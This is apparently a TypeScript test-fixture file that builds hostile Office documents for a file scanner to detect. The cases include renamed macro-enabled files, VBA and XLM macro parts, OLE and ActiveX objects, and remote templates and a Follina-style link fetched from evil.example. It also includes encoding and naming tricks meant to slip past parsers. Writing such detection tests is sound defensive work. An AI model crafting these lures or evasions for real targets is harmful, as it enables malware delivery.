import { type FileCase, fileCase } from "./file-case.ts";
import { buildOffice, type Package } from "./office-builder.ts";
import { buildZip, type Part } from "./zip-builder.ts";

const ms = "http://schemas.microsoft.com/office/2006/relationships";
const macros: Part = { name: "word/vbaProject.bin", content: "Attribute VB_Name" };

/** A relationship that fetches a template, without its brackets. */
const template =
  'Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"';

function listed(relationship: string, declaration = '<?xml version="1.0"?>'): Package {
  return { linkList: `${declaration}<Relationships>${relationship}</Relationships>` };
}

function prefixed(prefix: string): Package {
  return listed(`<${prefix}:${template} xmlns:${prefix}="x"/>`);
}

/** A main part whose type with macros is hidden from those who take another for it. */
function foreignMain(start: string, end = ""): Package {
  const macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
  return {
    moreTypes: `<Default Extension="foo" ContentType="${macros}"/>${start} PartName="/word/document.foo" ContentType="application/xml"/>${end}`,
  };
}

/** The type of macros, for whatever it is listed. */
function typed(element: string): Package {
  return { moreTypes: `${element} ContentType="application/vnd.ms-office.vbaProject"/>` };
}

function part(name: string): Package {
  return { parts: [{ name, content: "x" }] };
}

const active: readonly (readonly [string, "docx" | "xlsx" | "pptx", Package])[] = [
  [
    "docm renamed",
    "docx",
    { mainType: "application/vnd.ms-word.document.macroEnabled.main+xml", parts: [macros] },
  ],
  ["xlsm renamed", "xlsx", { mainType: "application/vnd.ms-excel.sheet.macroEnabled.main+xml" }],
  ["pptm renamed", "pptx", { mainType: "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml" }],
  ["xlsb renamed", "xlsx", { mainType: "application/vnd.ms-excel.sheet.binary.macroEnabled.main" }],
  [
    "dotx renamed",
    "docx",
    { mainType: "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml" },
  ],
  ["vbaProject.bin", "docx", { parts: [macros] }],
  ["VBAPROJECT.BIN", "xlsx", part("xl/VBAPROJECT.BIN")],
  [
    "macros by content type",
    "docx",
    { ...part("word/x.bin"), types: { "/word/x.bin": "application/vnd.ms-office.vbaProject" } },
  ],
  [
    "macros by an escaped type",
    "docx",
    { ...part("word/x.bin"), types: { "/WORD/x.bin": "application/vnd.ms-office.vba&#80;roject" } },
  ],
  ["macros by relationship", "docx", { ...part("word/x.bin"), links: [[`${ms}/vbaProject`, "x.bin"]] }],
  ["XLM sheet", "xlsx", part("xl/macrosheets/sheet1.xml")],
  [
    "XLM sheet by type",
    "xlsx",
    { ...part("xl/s.xml"), types: { "/xl/s.xml": "application/vnd.ms-excel.macrosheet+xml" } },
  ],
  ["XLM sheet by relationship", "xlsx", { ...part("xl/s.xml"), links: [[`${ms}/xlMacrosheet`, "s.xml"]] }],
  ["ActiveX", "docx", part("word/activeX/activeX1.bin")],
  ["OLE object", "docx", { ...part("word/embeddings/o.bin"), links: [["oleObject", "embeddings/o.bin"]] }],
  ["linked object (Follina)", "docx", { links: [["oleObject", "https://evil.example/x.html!", true]] }],
  ["remote template", "docx", { links: [["attachedTemplate", "https://evil.example/x.dotm", true]] }],
  ["template on a share", "docx", { links: [["attachedTemplate", "\\\\evil.example\\x.dotm", true]] }],
  ["picture on a share", "docx", { links: [["image", "file://evil.example/a.png", true]] }],
  ["remote frame", "docx", { links: [["frame", "https://evil.example", true]] }],
  ["link to a script", "pptx", { links: [["hyperlink", "javascript:alert(1)", true]] }],
  ["link to a handler", "docx", { links: [["hyperlink", "ms-msdt:/id PCWDiagnostic", true]] }],
  ["link to a script, broken", "pptx", { links: [["hyperlink", "java&#10;script:alert(1)", true]] }],
  ["linked object with spaces", "docx", { links: [[" http://a/oleObject ", "o.bin"]] }],
  ["link of many words", "docx", { links: [["image", `file://evil/${"a".repeat(9000)}`, true]] }],
  ["embedded page", "docx", { ...part("word/afchunk.mht"), links: [["aFChunk", "afchunk.mht"]] }],
  ["program inside", "docx", part("word/media/image1.exe")],
  ["archive inside", "docx", part("word/embeddings/a.zip")],
  [
    "embedded package of no kind",
    "docx",
    { ...part("word/embeddings/a.dat"), links: [["package", "embeddings/a.dat"]] },
  ],
  ["embedded xlsm", "pptx", part("ppt/embeddings/a.xlsm")],
  [
    "embedded table with macros",
    "pptx",
    { parts: [{ name: "ppt/embeddings/a.xlsx", content: buildOffice("xlsx", part("xl/vbaProject.bin")) }] },
  ],
  [
    "embedded zip as table",
    "pptx",
    { parts: [{ name: "ppt/embeddings/a.xlsx", content: buildZip([macros]) }] },
  ],
  ["entities", "docx", { listPrefix: '<!DOCTYPE x [<!ENTITY a "b">]>' }],
  ["prefix of another alphabet", "docx", prefixed("é")],
  ["prefix of many letters", "docx", prefixed("a".repeat(65))],
  ["mode by the end of another name", "docx", listed(`<${template} xmlns:éTargetMode="Internal"/>`)],
  ["type by the end of another name", "docx", listed(`<${template} xmlns:éType="x/hyperlink"/>`)],
  [
    "UTF-7 far away",
    "docx",
    listed(
      `+ADw-${template.replaceAll('"', "+ACI-")}/+AD4-`,
      `<?xml version="1.0"${" ".repeat(250)}encoding="UTF-7"?>`,
    ),
  ],
  [
    "UTF-7 with spaces",
    "docx",
    listed(
      `+ADw-${template.replaceAll('"', "+ACI-")}/+AD4-`,
      '<?xml version="1.0" encoding          ="UTF-7"?>',
    ),
  ],
  [
    "another type in a comment",
    "docx",
    {
      ...part("word/x.bin"),
      types: { "/word/x.bin": "application/vnd.ms-office.vbaProject" },
      moreTypes: '<!-- <Override PartName="/word/x.bin" ContentType="application/xml"/> -->',
    },
  ],
  [
    "two types of one part",
    "docx",
    {
      ...part("word/x.xyz"),
      types: { "/word/x.xyz": "application/xml" },
      moreTypes: '<Override PartName="/WORD/X.xyz" ContentType="text/plain"/>',
    },
  ],
  ["another type in another namespace", "docx", foreignMain('<v:Override xmlns:v="urn:x"')],
  ["another type below another element", "docx", foreignMain("<x><Override", "</x>")],
  ["a type for a name without a slash", "docx", typed('<Override PartName="word/x.bin"')],
  ["a type for an escaped name", "docx", typed('<Override PartName="/word/%78.bin"')],
  ["a type for an extension with a dot", "docx", typed('<Default Extension=".foo"')],
  ["a relationship of another namespace", "docx", listed(`<v:${template} xmlns:v="urn:x"/>`)],
  ["a template without a mode", "docx", listed(`<${template.replace(' TargetMode="External"', "")}/>`)],
  [
    "a template on a share, said to be inside",
    "docx",
    listed(`<${template.replace("External", "Internal").replace("https://evil.example", "\\\\\\\\evil")}/>`),
  ],
  ["a link that is not seen", "docx", { links: [["hyperlink", "java\u200Bscript:alert(1)", true]] }],
  [
    "a package with a fragment",
    "docx",
    { ...part("word/embeddings/a.dat"), links: [["package", "embeddings/a.dat#.docx"]] },
  ],
  ["ASCII with high bytes", "docx", { listPrefix: '<?xml version="1.0" encoding="us-ascii"?>' }],
  ["an escaped name", "docx", part("word/vba%50roject.bin")],
  ["a name with a dot at its end", "docx", part("word/media/a.exe.")],
  ["a list in pieces", "docx", part("word/_rels/footer1.xml.rels/[0].last.piece")],
  ["a list with an escaped name", "docx", part("word/_rels/footer1.xml.rel%73")],
  ["a list with a wide letter", "docx", part("word/_rels/footer1.xml.\uFF52els")],
  ["a shortcut", "docx", part("word/media/a.url")],
  ["a list that does not end", "docx", listed(`<${template}>`)],
  ["a declared entity", "docx", listed(`&x;`)],
  ["UTF-7", "docx", { listPrefix: '<?xml version="1.0" encoding="UTF-7"?>' }],
];

/** Documents of Office that run something, or fetch what does. */
export function hostileOffice(): readonly FileCase[] {
  return active.map(([title, kind, wanted]) =>
    fileCase("macros and objects", title, kind, buildOffice(kind, wanted)),
  );
}
